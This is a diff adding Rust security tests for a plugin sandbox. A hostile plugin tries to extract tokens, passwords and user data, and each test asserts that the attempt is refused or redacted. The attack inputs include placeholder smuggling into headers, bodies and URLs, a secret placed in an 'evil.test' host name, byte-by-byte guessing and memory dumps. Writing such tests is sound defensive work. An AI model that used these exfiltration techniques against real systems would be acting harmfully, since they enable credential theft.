@@ -1,0 +1,181 @@
+//! After the secrets, through every import.
+
+use serde_json::{Value, json};
+
+use super::scene::{Cloud, PASSWORD, Scene, TOKEN, USER_DATA, shows_nothing};
+
+const TOKEN_PLACEHOLDER: &str = "t";
+
+fn placeholders() -> Value {
+    json!({ TOKEN_PLACEHOLDER: { "key": "token" }, "d": { "user-data": true, "encodings": ["json-escape"] } })
+}
+
+#[tokio::test]
+async fn attack_reveal_every_secret() {
+    let scene = Scene::new().await;
+    let report = scene.report(&json!({ "do": "reveal" })).await;
+    for key in ["", "token", "username", "password"] {
+        assert_eq!(report["secrets"][key]["refused"], "not-granted", "{key} {report}");
+    }
+    assert_eq!(scene.world.metric("machinist_plugin_secret_reveals_total{plugin=\"hostile\"}"), 0);
+}
+
+#[tokio::test]
+async fn attack_guess_a_secret_byte_by_byte() {
+    let scene = Scene::new().await;
+    for key in ["token", "password"] {
+        let report = scene.report(&json!({ "do": "guess", "key": key })).await;
+        assert_eq!(report["bytes"], 0, "{report}");
+    }
+    let data = scene.report(&json!({ "do": "guess" })).await;
+    let guessed = data["guessed"].as_str().expect("a guess").trim_end_matches('\0');
+    assert_eq!(guessed, &USER_DATA[..64], "the beginning of user data, which a driver may compare");
+}
+
+#[tokio::test]
+async fn attack_placeholder_to_another_host() {
+    let scene = Scene::new().await;
+    let url = scene.url("other.test", "/");
+    let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": "{{t}}" }, "placeholders": placeholders() });
+    scene.refused(&plan, "placeholder-host").await;
+    assert!(scene.cloud.seen().is_empty());
+}
+
+#[tokio::test]
+async fn attack_placeholder_in_tags_user_data_and_other_places() {
+    let scene = Scene::new().await;
+    let url = scene.url("cloud.test", "/vms");
+    for smuggled in [
+        json!({ "headers": { "x-tag": "{{t}}" } }),
+        json!({ "headers": { "cookie": "{{t}}" } }),
+        json!({ "headers": { "x-token": "{{d}}" } }),
+        json!({ "headers": { "content-type": "application/json" }, "body": r#"{"tags":{"a":"{{t}}"}}"# }),
+        json!({ "headers": { "content-type": "application/json" }, "body": r#"{"vm":{"userData":"{{t}}"}}"# }),
+        json!({ "headers": { "content-type": "application/json" }, "body": r#"{"vm":{"{{d}}":"x"}}"# }),
+        json!({ "headers": { "content-type": "text/plain" }, "body": "{{d}}" }),
+        json!({ "url": format!("{url}?tag={{{{t}}}}") }),
+        json!({ "url": format!("{url}/{{{{t}}}}") }),
+    ] {
+        let mut plan = json!({ "do": "fetch", "method": "POST", "url": url, "placeholders": placeholders() });
+        for (field, value) in smuggled.as_object().expect("an object") {
+            plan[field] = value.clone();
+        }
+        scene.refused(&plan, "placeholder-place").await;
+    }
+    assert!(scene.cloud.seen().is_empty());
+}
+
+#[tokio::test]
+async fn attack_secret_in_a_host_name() {
+    let scene = Scene::new().await;
+    let plan = json!({ "do": "fetch", "url": "http://{{t}}.evil.test/", "placeholders": placeholders() });
+    scene.refused(&plan, "grant-host").await;
+}
+
+#[tokio::test]
+async fn attack_placeholder_of_another_call() {
+    let scene = Scene::new().await;
+    let url = scene.url("cloud.test", "/");
+    let tokens = scene.report(&json!({ "do": "placeholders", "key": "token", "encodings": ["plain"] })).await;
+    let stolen = tokens["tokens"][0].as_str().expect("a placeholder");
+    let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": stolen } });
+    scene.refused(&plan, "placeholder-unknown").await;
+    let invented = format!("{}{}", &stolen[..stolen.len() - 4], "aaaa");
+    let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": invented } });
+    scene.refused(&plan, "placeholder-unknown").await;
+    assert!(scene.cloud.seen().is_empty());
+}
+
+/// Says what it got, in a header, in the reason and in the body, and in pieces.
+fn echo(request: &str) -> Vec<u8> {
+    let token = request.lines().find_map(|line| line.strip_prefix("x-token: ")).unwrap_or_default();
+    let (first, second) = request.split_at(request.len() / 2);
+    let pieces = [first, second].map(|piece| format!("{:x}\r\n{piece}\r\n", piece.len()));
+    format!(
+        "HTTP/1.1 400 {token}\r\nx-echo: {token}\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n{}0\r\n\r\n",
+        pieces.concat()
+    )
+    .into_bytes()
+}
+
+#[tokio::test]
+async fn attack_echo_of_secrets_by_the_cloud() {
+    let scene = Scene::with(Cloud::saying(echo)).await;
+    let plan = json!({
+        "do": "fetch",
+        "method": "POST",
+        "url": scene.url("cloud.test", "/vms"),
+        "headers": { "x-token": "{{t}}", "content-type": "application/json", "machinist-auth": "basic" },
+        "body": r#"{"vm":{"userData":"{{d}}"}}"#,
+        "placeholders": placeholders(),
+    });
+    let report = scene.report(&plan).await;
+    let sent = scene.cloud.seen().remove(0);
+    assert!(sent.contains(TOKEN) && sent.contains("canary.0123456789abcdef"), "it arrived: {sent}");
+    let basic = sent.split("authorization: Basic ").nth(1).and_then(|rest| rest.split("\r\n").next());
+    assert!(!report.to_string().contains(basic.expect("a password arrived")), "{report}");
+    assert!(report["body"].as_str().is_some_and(|body| body.matches("***").count() >= 3), "{report}");
+    // In the text of an error, too.
+    let mut failing = plan;
+    failing["then"] = json!("error");
+    let error = scene.call(&failing).await.expect_err("fails with the report as its message");
+    assert!(error.to_string().contains("***"), "{error}");
+    let refused = "machinist_plugin_http_requests_total{plugin=\"hostile\",outcome=\"4xx\"}";
+    assert_eq!(scene.world.metric(refused), 2);
+}
+
+#[tokio::test]
+async fn attack_dump_of_the_whole_memory() {
+    let scene = Scene::new().await;
+    for needle in [TOKEN, PASSWORD, USER_DATA, "canary.0123456789abcdef"] {
+        let reversed: String = needle.chars().rev().collect();
+        let plan = json!({ "do": "dump", "needle-reversed": reversed, "url": scene.url("cloud.test", "/") });
+        let report = scene.report(&plan).await;
+        assert_eq!((&report["found"], &report["status"]), (&json!(0), &json!(200)), "{report}");
+    }
+    for dump in scene.cloud.seen() {
+        assert!(dump.len() > 65_536, "a memory");
+        shows_nothing(&dump);
+    }
+    let counter = "machinist_plugin_http_requests_total{plugin=\"hostile\",outcome=\"2xx\"}";
+    assert_eq!(scene.world.metric(counter), 4);
+}
+
+#[tokio::test]
+async fn attack_look_for_a_world_outside() {
+    let scene = Scene::new().await;
+    let report = scene.report(&json!({ "do": "peek" })).await;
+    assert_eq!((&report["environment"], &report["arguments"]), (&json!(0), &json!(0)), "{report}");
+    for what in ["root", "write", "make", "listen", "udp", "thread"] {
+        assert!(report[what]["error"].is_string(), "{what}: {report}");
+    }
+    for what in ["files", "tcp", "names"] {
+        for (name, outcome) in report[what].as_object().expect("an object") {
+            assert!(outcome["error"].is_string(), "{what} {name}: {outcome}");
+        }
+    }
+    assert_eq!(scene.world.metric("machinist_plugin_http_requests_total{plugin=\"hostile\""), 0);
+}
+
+#[tokio::test]
+async fn attack_memory_of_another_call() {
+    let scene = Scene::new().await;
+    for _ in 0..3 {
+        assert_eq!(scene.report(&json!({ "do": "remember" })).await["calls"], 1);
+    }
+    let ended = "machinist_plugin_calls_total{plugin=\"hostile\",operation=\"CreateMachine\",outcome=\"ok\"";
+    assert_eq!(scene.world.metric(ended), 3);
+}
+
+#[tokio::test]
+async fn attack_mark_for_a_host_that_gets_no_password() {
+    let scene = Scene::new().await;
+    let url = scene.url("other.test", "/");
+    for (mark, reason) in
+        [("basic", "auth-host"), ("bearer", "auth-scheme"), ("basic; user=root", "auth-mark")]
+    {
+        let plan = json!({ "do": "fetch", "url": url, "headers": { "machinist-auth": mark } });
+        scene.refused(&plan, reason).await;
+    }
+    assert!(scene.cloud.seen().is_empty());
+}
